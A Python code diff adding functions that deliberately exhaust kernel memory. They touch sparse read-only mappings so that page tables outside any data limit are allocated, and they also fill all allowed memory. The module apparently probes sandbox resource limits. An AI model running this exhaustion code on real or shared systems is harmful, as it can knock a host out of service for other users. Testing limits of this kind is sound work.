@@ -35,6 +35,9 @@ CLONE_NEWUSER, CLONE_NEWNET = 0x10000000, 0x40000000
 PTRACE_SEIZE, PTRACE_DETACH = 0x4206, 17
 PR_SET_PDEATHSIG, PR_SET_DUMPABLE = 1, 4
 F_SETSIG = 10
+SPAN = 2**21
+"""Addresses of a page of page tables."""
+KEPT: list[mmap.mmap] = []
 LIBC = ctypes.CDLL(None, use_errno=True)
 
 Facts = Mapping[str, Any]
@@ -327,15 +330,68 @@ def attempts(facts: Facts) -> dict[str, Callable[[], object]]:
     return found
 
 
-def fill_page_tables() -> None:
-    """Read one page in each GiB of addresses: no limit counts the 0.5 GB of tables that this takes."""
+def _reserve(size: int, address: int | None = None) -> int | None:
+    """Map memory to read only, which no limit of data counts; returns its address, None if it is refused."""
     LIBC.mmap.restype = ctypes.c_void_p
     LIBC.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *3 * [ctypes.c_int], ctypes.c_long]
-    kind = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | NORESERVE | FIXED_NOREPLACE
-    for place in range(1024, 61_000):
-        LIBC.mmap(place * GIB, PAGE, mmap.PROT_READ, kind, -1, 0)
-        ctypes.string_at(place * GIB, 1)
+    kind = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | NORESERVE | (0 if address is None else FIXED_NOREPLACE)
+    mapped = LIBC.mmap(address, size, mmap.PROT_READ, kind, -1, 0)
+    return None if mapped in {None, ctypes.c_void_p(-1).value} else int(mapped)
+
+
+def scatter_pages() -> None:
+    """Read two pages at each second border of a GiB: up to 16 KB of page tables for 8 KB of addresses."""
+    for border in range(2 * GIB, 131_000 * GIB, 2 * GIB):
+        mapped = _reserve(2 * PAGE, border - PAGE)
+        if mapped is not None:
+            ctypes.string_at(mapped, 1)
+            ctypes.string_at(border, 1)
+
+
+def scatter_pages_and_wait() -> None:
+    scatter_pages()
     signal.pause()
+
+
+def read_reserved() -> None:
+    """Read a page of each 2 MiB, which takes 4 KiB of tables, of all addresses that there are, or 600 GiB."""
+    size, left = 64 * GIB, 600 * GIB
+    while size >= SPAN and left > 0:
+        mapped = _reserve(size)
+        if mapped is None:
+            size //= 2
+            continue
+        left -= size
+        for place in range(mapped, mapped + size, SPAN):
+            ctypes.string_at(place, 1)
+
+
+def leave_pages() -> None:
+    """Keep one page of each mapping that the kernel places, so that the next one comes further down."""
+    LIBC.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
+    for _ in range(60_000):
+        mapped = _reserve(GIB // 4)
+        if mapped is None:
+            break
+        ctypes.string_at(mapped, 1)
+        LIBC.munmap(mapped + PAGE, GIB // 4 - PAGE)
+
+
+def take_everything() -> None:
+    """Take all the data that the limit allows, and then page tables in each way."""
+    size = GIB
+    while size >= SPAN:
+        try:
+            taken = mmap.mmap(-1, size, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=READ_WRITE)
+        except (OSError, MemoryError):
+            size //= 2
+            continue
+        KEPT.append(taken)
+        for place in range(0, size, PAGE):
+            taken[place] = 1
+    leave_pages()
+    scatter_pages()
+    read_reserved()
 
 
 def take_all_stacks() -> None:
